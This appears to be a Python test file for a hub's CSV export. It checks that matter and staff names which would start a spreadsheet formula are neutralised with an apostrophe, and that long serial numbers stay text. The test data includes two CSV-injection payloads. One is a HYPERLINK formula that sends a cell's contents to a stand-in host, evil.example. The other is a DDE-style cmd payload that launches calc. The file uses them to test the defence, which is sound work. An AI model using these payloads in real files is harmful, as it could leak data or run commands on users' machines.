"""CSV files the hub writes for a spreadsheet (`pingjia export-csv`, `pingjia
upstream export`): a matter or staff name that a spreadsheet would run as a
formula is written so that it cannot run, and long digit strings stay text
(hub/csv_safe.py). Read back as Excel would see the cells."""

import csv
import io
import os
import subprocess
import sys

from hypothesis import given, strategies as st

from hub import config, csv_safe
from hub.services import invitations, journal, terminals
from hub.store import open_db
from hub.upstream import make_adapter
from hub.upstream.reconcile import export_month
from simulator.mpy import REPO_ROOT

T0 = 1718064005000
FORMULA_START = "=+-@\t\r"
HOSTILE_MATTER = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
HOSTILE_STAFF = "@SUM(1+1)*cmd|' /C calc'!A0"
SERIAL = "012345678901234567"        # leading zero and 18 digits: Excel would write 1.23457E+16

@given(st.text(max_size=40))
def test_no_text_cell_can_start_a_formula_and_the_text_is_kept(text):
    out = csv_safe.cell(text)
    if text.startswith(tuple(FORMULA_START)):
        assert out == "'" + text
    elif out != text:           # only digits get a tab, and the tab is all that is added
        assert out == "\t" + text and text.isdigit()
    assert out[:1] not in ("=", "+", "-", "@", "\r")


def test_digit_strings_that_a_spreadsheet_would_rewrite_get_a_leading_tab():
    assert csv_safe.cell(SERIAL) == "\t" + SERIAL
    assert csv_safe.cell("0317") == "\t0317"                    # a staff id with a leading zero
    assert csv_safe.cell("330100") == "330100"                  # a short number stays as it is
    assert csv_safe.cell("-1") == "'-1" and csv_safe.cell(5) == 5 and csv_safe.cell(None) is None
    assert csv_safe.cell("个体工商户设立登记") == "个体工商户设立登记"

def _hall(tmp_path):
    (tmp_path / "hub.toml").write_text('[hub]\ndata_dir = "data"\n[hall]\ncode = "t"\n',
                                       encoding="utf-8")
    cfg = config.load(str(tmp_path / "hub.toml"), env={})
    config.ensure_data_dir(cfg)
    db = open_db(cfg.db_path)
    terminals.provision(db, "T-1", "5", now=T0 - 60_000)
    inv = invitations.create(db, "5", SERIAL, "-M1", HOSTILE_MATTER, "0317", HOSTILE_STAFF,
                             now=T0 - 5000)
    journal.record_rating(db, "T-1", {
        "t": "rating", "seq": 1, "eid": inv["eid"], "cs": SERIAL, "lv": 5, "lb": [517],
        "dp": 3000, "mt": 10000, "org": "live"}, now=T0)
    return db

def test_export_csv_neutralises_formulas_and_keeps_serials_as_text(tmp_path):
    _hall(tmp_path).close()
    env = {k: v for k, v in os.environ.items() if k not in ("PINGJIA_CONFIG", "PINGJIA_DATA")}
    out = tmp_path / "ratings.csv"
    r = subprocess.run([sys.executable, "-m", "hub.cli", "export-csv", str(out)], cwd=str(tmp_path),
                       env=env, capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    (row,) = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))
    assert row["事项名称"] == "'" + HOSTILE_MATTER
    assert row["工作人员"] == "'" + HOSTILE_STAFF
    assert row["事项编码"] == "'-M1"
    assert row["办件流水号"] == "\t" + SERIAL and row["工号"] == "\t0317"
    assert row["评价等级"] == "5" and row["等级名称"] == "非常满意"     # the hub's own cells as before
    for value in row.values():
        assert value[:1] not in ("=", "+", "-", "@")

def test_upstream_export_neutralises_formulas_and_keeps_serials_as_text(tmp_path):
    db = _hall(tmp_path)
    (box_id,) = db.execute("SELECT id FROM outbox WHERE kind = 'rating'").fetchone()
    from hub.upstream import outbox
    outbox.settle(db, [(box_id, "accepted", T0, None, "UP-1")], T0 + 1000)
    adapter = make_adapter({"adapter": "zhejiang", "area_code": "330100", "dept_code": "91330100MA27XL0E1D",
                            "channels": {"terminal": 5}, "endpoint": "http://127.0.0.1:9/zj/offlinereport.do",
                            "username": "u", "password": "p", "area_name": "杭州市", "pro_depart": "市场监管局"})
    path = tmp_path / "upload.csv"
    assert export_month(db, adapter, T0 - 1000, T0 + 1000, str(path)) == 1
    with open(path, encoding="utf-8-sig", newline="") as f:
        (row,) = csv.DictReader(f)
    assert row["taskName"] == "'" + HOSTILE_MATTER
    assert row["taskCode"] == "'-M1"
    assert row["projectNo"] == "\t" + SERIAL
    for value in row.values():
        assert value[:1] not in ("=", "+", "-", "@")
